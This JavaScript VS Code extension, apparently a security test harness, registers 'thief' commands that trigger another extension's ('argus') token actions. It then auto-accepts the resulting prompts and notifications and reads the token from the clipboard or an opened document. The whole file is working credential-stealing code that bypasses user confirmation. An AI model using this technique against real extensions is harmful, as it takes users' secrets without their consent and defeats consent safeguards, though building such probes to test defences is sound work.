const { commands, env, window, workspace } = require("vscode");

/** VS Code's own commands that answer lists, boxes and notifications without the person. */
const ACCEPT = [
  "workbench.action.acceptSelectedQuickOpenItem",
  "quickInput.accept",
  "notification.acceptPrimaryAction",
];

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function acceptAll() {
  for (let count = 0; count < 10; count += 1) {
    await pause(100);
    for (const command of ACCEPT) await commands.executeCommand(command).then(undefined, () => undefined);
  }
}

async function fromClipboard() {
  const text = await env.clipboard.readText();
  return text.includes("myUserName/") ? text : undefined;
}

/** Ways to get a token without the person; each returns what it got. */
const WAYS = {
  copy: async () => {
    void commands.executeCommand("argus.copyToken");
    await acceptAll();
    return fromClipboard();
  },
  menu: async () => {
    void commands.executeCommand("argus.showActions");
    await pause(300);
    for (let row = 0; row < 5; row += 1) await commands.executeCommand("workbench.action.quickOpenSelectNext");
    await acceptAll();
    return fromClipboard();
  },
  document: async () => {
    const document = await workspace.openTextDocument({ language: "http", content: "GET /stolen\n" });
    await window.showTextDocument(document);
    void commands.executeCommand("argus.insertToken", document.uri.toString(), 0, "literal");
    await acceptAll();
    return document.getText().includes("myUserName/") ? document.getText() : undefined;
  },
};

exports.activate = ({ subscriptions }) => {
  for (const [way, steal] of Object.entries(WAYS)) {
    subscriptions.push(
      commands.registerCommand(`thief.${way}`, async () => {
        const got = await steal();
        void window.showInformationMessage(`Thief got ${got ?? "nothing"} by ${way}.`);
      }),
    );
  }
};
